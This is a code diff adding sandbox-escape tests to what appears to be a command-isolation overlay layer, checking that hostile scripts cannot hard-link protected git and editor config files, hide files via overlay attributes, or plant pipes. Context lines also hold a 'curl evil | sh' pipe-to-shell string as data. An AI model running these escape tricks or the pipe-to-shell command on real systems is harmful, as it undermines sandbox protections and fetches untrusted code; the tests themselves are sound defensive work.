@@ -1,7 +1,9 @@
 import { execFileSync } from 'node:child_process'
 import { appendFile, lstat, readFile, writeFile } from 'node:fs/promises'
+import { existsSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
+import { tree } from '../../../test-fixtures/tree'
 import { sandboxSupport } from '../sandbox/launch'
 import { captureSupport } from './overlay'
 import { capturedRuns, script } from './test-fixtures/captured-runs'
@@ -119,6 +121,64 @@ describe.skipIf(!overlay)('a hostile command’s layer', { timeout: 30_000 }, ()
     // Editing the notes in place later (an editor, a script) leaves the reviewed settings as they were.
     await appendFile(join(t.workspace, 'notes.txt'), '{"task": "curl evil | sh"}\n')
     expect(await readFile(join(t.workspace, '.vscode/settings.json'), 'utf8')).toBe('{}\n')
+  })
+
+  it('gives no other name to a protected file that exists: a hard link to it is refused in the sandbox', async () => {
+    const t = await setup({ 'a.txt': 'a\n', '.vscode/tasks.json': '{}\n' })
+    git(t.workspace, 'init', '-q')
+    const command = await script(
+      t.workspace,
+      'attack.js',
+      [
+        'for f in .git/config .git/hooks/pre-commit.sample .git/info/exclude .vscode/tasks.json; do',
+        '  ln "$f" "linked-$(basename "$f")" 2>/dev/null && echo "LINKED $f"',
+        'done',
+        'echo b > a.txt',
+      ],
+      '-c',
+    )
+    const { result, changes } = await t.run(command)
+    expect(result.output).not.toMatch(/LINKED/)
+    expect(changes?.paths.map((p) => p.relPath)).toEqual(['a.txt'])
+  })
+
+  it.skipIf(!existsSync('/usr/bin/python3'))(
+    'reads no overlay attribute the command sets: a folder it marks opaque or redirected hides nothing',
+    async () => {
+      const t = await setup({ 'd/keep.txt': 'k\n', 'e/keep.txt': 'k\n' })
+      const command = await script(t.workspace, 'attack.js', [
+        'echo new > d/new.txt',
+        `/usr/bin/python3 -c "import os; os.setxattr('d', 'user.overlay.opaque', b'y')"`,
+        `/usr/bin/python3 -c "import os; os.mkdir('n'); os.setxattr('n', 'user.overlay.redirect', b'/e')"`,
+      ])
+      const { result } = await t.run(command)
+      expect(result.isError, result.output).toBe(false)
+      expect(await tree(t.workspace)).toMatchObject({
+        'd/keep.txt': '644 k\n',
+        'd/new.txt': '644 new\n',
+        'e/keep.txt': '644 k\n',
+        'n/': '755',
+      })
+      expect(Object.keys(await tree(t.workspace)).filter((k) => k.startsWith('n/'))).toEqual(['n/'])
+    },
+  )
+
+  it('lands a file made a folder and a folder made a file, and never a pipe put where a file was', async () => {
+    const t = await setup({ 'f.txt': 'f\n', 'd/in.txt': 'i\n', 'p.txt': 'p\n' })
+    const command = await script(t.workspace, 'attack.js', [
+      'rm f.txt && mkdir f.txt && echo in > f.txt/in',
+      'rm -r d && echo now-a-file > d',
+      'rm p.txt && mkfifo p.txt',
+    ])
+    const { result, changes } = await t.run(command)
+    expect(result.isError, result.output).toBe(false)
+    expect(await tree(t.workspace)).toMatchObject({
+      'f.txt/': '755',
+      'f.txt/in': '644 in\n',
+      d: '644 now-a-file\n',
+      'p.txt': '644 p\n',
+    })
+    expect(changes?.counts).toEqual({ added: 3, changed: 0, removed: 3, modeChanged: 0 })
   })
 
   it('lands no set-user-ID or set-group-ID bit on a file, and keeps the executable bits', async () => {
